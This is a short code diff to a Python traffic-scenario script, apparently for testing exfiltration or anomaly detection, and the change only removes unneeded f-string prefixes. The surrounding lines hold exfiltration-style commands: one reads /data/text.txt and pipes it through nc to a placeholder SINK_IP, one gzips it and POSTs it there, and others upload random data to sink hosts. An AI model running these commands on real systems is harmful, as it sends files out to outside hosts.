@@ -51,7 +51,7 @@ def https_get(host: str) -> str:
 
 API_CALL = https_get(SINK_IP)
 LOG_TEXT = f"head -c 20000 /data/text.txt | nc {SINK_IP} 9001"
-LOG_GZIP = f"head -c 30000 /data/text.txt | gzip > /tmp/l.gz; " + http_post(SINK_IP, 8080, "/tmp/l.gz", "/logs")
+LOG_GZIP = "head -c 30000 /data/text.txt | gzip > /tmp/l.gz; " + http_post(SINK_IP, 8080, "/tmp/l.gz", "/logs")
 BACKUP_RUN = f"head -c 400000 /dev/urandom > /tmp/b; {ENC} -in /tmp/b -out /tmp/b.enc; " + https_post(VAULT_IP, "/tmp/b.enc", "/vault")
 
 
@@ -132,11 +132,11 @@ def _dns(ctx: Ctx) -> None:
 
 
 def _spike(ctx: Ctx) -> None:
-    ctx.run(API, f"head -c 3000000 /dev/urandom > /tmp/s; " + https_post(SINK_IP, "/tmp/s", "/api/v1/items"))
+    ctx.run(API, "head -c 3000000 /dev/urandom > /tmp/s; " + https_post(SINK_IP, "/tmp/s", "/api/v1/items"))
 
 
 def _new_dest(ctx: Ctx) -> None:
-    ctx.run(API, f"head -c 1200000 /dev/urandom > /tmp/s; " + https_post(SECOND_IP, "/tmp/s"))
+    ctx.run(API, "head -c 1200000 /dev/urandom > /tmp/s; " + https_post(SECOND_IP, "/tmp/s"))
 
 
 def _slow(ctx: Ctx) -> None:
